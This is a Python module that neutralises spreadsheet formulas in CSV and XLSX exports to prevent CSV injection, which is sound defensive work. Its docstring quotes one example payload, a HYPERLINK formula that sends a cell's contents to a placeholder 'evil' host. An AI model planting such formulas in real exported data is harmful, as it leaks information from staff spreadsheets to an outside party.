"""Spreadsheet exports that cannot run formulas: how every CSV and XLSX export writes cells.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return runs as a formula
in spreadsheet programs (CSV injection): ``=HYPERLINK("http://evil/?"&A1, "点击")`` in a
complaint title or a member's city would become a live link in a staff member's spreadsheet.
Such text is written with a leading apostrophe, which spreadsheet programs read as "this is
text". In XLSX every string is also stored as a string cell (openpyxl would otherwise store a
string beginning with ``=`` as a formula); numbers, dates and empty cells stay what they are, so
sums and sorting keep working.

It lives in the members' domain because every area may import it and it imports nothing.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_neutralise(value: Any) -> Any:
    """The value, with text that a spreadsheet would run as a formula turned into plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row_neutralise(row: Iterable[Any]) -> list[Any]:
    return [cell_neutralise(value) for value in row]


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised first."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(row_neutralise(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)


def xlsx_append(sheet, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet: text as neutralised string cells, numbers as numbers."""
    values = row_neutralise(row)
    sheet.append(values)
    if not values:
        return
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if isinstance(value, str):
            # Set after the append: openpyxl infers a formula from a leading "=" on assignment.
            cell.data_type = "s"
